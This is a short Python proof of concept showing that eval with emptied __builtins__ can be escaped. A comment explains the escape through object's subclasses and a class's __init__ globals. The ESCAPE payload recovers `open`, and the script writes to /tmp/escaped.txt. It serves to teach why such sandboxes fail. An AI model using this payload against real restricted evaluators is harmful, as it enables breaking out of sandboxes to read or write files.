def evaluate(text):
    return eval(text, {"__builtins__": {}}, {"price": 3})


# A tuple needs no name. Its class leads to `object`, and `object` to every class. One that was written in Python has
# functions, a function has the globals of its module, and these have the real builtins.
ESCAPE = """[
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "IncrementalEncoder"
][0].__init__.__globals__["__builtins__"]["open"]"""

try:
    found = evaluate(ESCAPE)
except NameError as exc:
    print("refused:", exc)
else:
    with found("/tmp/escaped.txt", "w") as file:
        file.write("out")
